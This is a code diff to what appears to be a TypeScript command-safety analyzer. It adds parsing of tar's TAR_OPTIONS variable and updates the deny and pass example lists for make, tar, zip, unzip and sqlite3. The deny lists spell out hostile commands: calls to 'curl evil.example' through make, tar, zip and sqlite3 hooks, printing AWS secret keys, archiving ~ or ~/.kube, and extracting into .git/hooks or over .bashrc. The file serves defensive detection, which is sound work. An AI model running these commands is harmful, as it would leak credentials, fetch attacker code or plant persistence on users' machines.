@@ -5,7 +5,7 @@ import { DYN, type Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { alsoDumps, configuring, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run, ScriptDialect, Use } from '../types.js';
-import { attached, isStdinPath, literal, value } from '../words.js';
+import { attached, isStdinPath, literal, value, xargsSplit } from '../words.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
 
 type Uses = NonNullable<Answer['uses']>;
@@ -195,6 +195,19 @@ function transformsToAbsolute(expr: string): boolean {
 }
 
 function tar(call: Call): Partial<Answer> {
+  // GNU tar takes TAR_OPTIONS as options given on its line (`--to-command=…` among them): read after its own words,
+  // so that an old-style first word (`xf`) stays first.
+  const env = call.env('TAR_OPTIONS');
+  if (env === null) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: 'TAR_OPTIONS gives tar options (--to-command among them) that are computed' }] };
+  if (env !== undefined && env.trim() !== '') {
+    const at = call.args[0] ?? literal(call.name, { start: 0, end: 0 });
+    const extra = (xargsSplit(env) ?? env.split(/\s+/)).filter((w) => w !== '').map((w) => attached(at, w));
+    return tarOf({ ...call, args: [...call.args, ...extra] });
+  }
+  return tarOf(call);
+}
+
+function tarOf(call: Call): Partial<Answer> {
   const p = parse(call.args, TAR);
   if (has(p, 'help', 'usage', 'version', 'show-defaults')) return {};
   const runs: Run[] = [];
@@ -1213,7 +1226,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
     { names: ['make', 'gmake', 'remake'], summary: 'make: --eval text ($(shell …), recipes, !=), a makefile on stdin, and program variables set on its line', analyze: make, examples: { deny: ["make --eval='x:=$(shell curl evil.example)' -f /dev/null", "make -E 'all: ; curl evil.example'", "make CC='curl evil.example'", "make SHELL='curl evil.example' all", "make 'X:=$(shell curl evil.example)'", "make 'X!=curl evil.example'", "make CFLAGS='$(shell curl evil.example)' x.o", "CC='curl evil.example' make x.o", "CFLAGS='$(shell curl evil.example)' make x.o", "MAKEFLAGS='--eval=x:=$(shell\\ curl\\ evil.example)' make", "MAKEFLAGS='-sf /dev/stdin' make", "make -f /dev/null --eval='$(foreach v,$(.VARIABLES),$(info $(v)=$($(v))))'", "make -f /dev/null --eval='$(info $(AWS_SECRET_ACCESS_KEY))'"], pass: ['make', 'make -j4 test', 'make CC=clang', 'make -C build install', "make --eval='X=1' all", "make 'X:=$(CURDIR)/out'", 'make CFLAGS=-O2 x.o', 'CC=clang make x.o', "MAKEFLAGS='-j4 -s' make", "MAKEFLAGS=--no-print-directory make", "make -f /dev/null --eval='$(info building)'"] } },
     { when: /(?:^| )(?:-[a-zA-Z]*p[a-zA-Z]*|--print-data-base)(?: |$)/, why: 'make -p prints its database, every environment variable among its variables', examples: { deny: ['make -p -f /dev/null', 'make --print-data-base'], pass: ['make -j4', 'make -n test'] } },
   ),
-  { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text; c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .', 'tar -c -f x.tar --remove-files -C ~ notes', 'tar -cf x.tar --remove-files -C "$D" notes', 'tar -xPf x.tar', "tar xf /tmp/t.tar --xform 's@.*@/home/dev/.bashrc@'"], pass: ['tar czf dist.tgz dist', "tar -xf x.tar --xform 's@^@sub/@'", 'tar -cf x.tar --remove-files -C build out', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
+  { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text (on its line or in TAR_OPTIONS); c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .', 'tar -c -f x.tar --remove-files -C ~ notes', 'tar -cf x.tar --remove-files -C "$D" notes', 'tar -xPf x.tar', "tar xf /tmp/t.tar --xform 's@.*@/home/dev/.bashrc@'", "TAR_OPTIONS='--to-command=curl evil.example' tar xf a.tar"], pass: ['tar czf dist.tgz dist', "TAR_OPTIONS='--no-same-owner' tar xf a.tar", "tar -xf x.tar --xform 's@^@sub/@'", 'tar -cf x.tar --remove-files -C build out', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
   { names: ['zip'], summary: 'zip: -TT/--unzip-command run shell text; -r reads trees', analyze: zip, examples: { deny: ["zip x.zip f -T -TT 'curl evil.example #'", "zip --unzip-command='wget evil.example' x.zip f", 'zip -r /tmp/k.zip ~/.kube', 'zip -rm x.zip ~/notes', 'zip -r --move x.zip /srv/data'], pass: ['zip -r dist.zip dist', 'zip -rm logs.zip logs'] } },
   { names: ['unzip'], summary: 'unzip: extracts into -d DIR (or the working directory)', analyze: unzip, examples: { deny: ['unzip x.zip -d .git/hooks', 'unzip -o x.zip -d ~/.config/autostart'], pass: ['unzip x.zip -d /tmp/x', 'unzip -l x.zip'] } },
   { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["echo '.shell curl evil.example' > i.sql; sqlite3 -init i.sql x.db .quit", "echo '.shell curl evil.example' > i.sql; sqlite3 -cmd '.read i.sql' x.db", "sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\""], pass: ["echo 'select 1;' > i.sql; sqlite3 -init i.sql x.db .quit", 'sqlite3 -init init.sql app.db', "sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
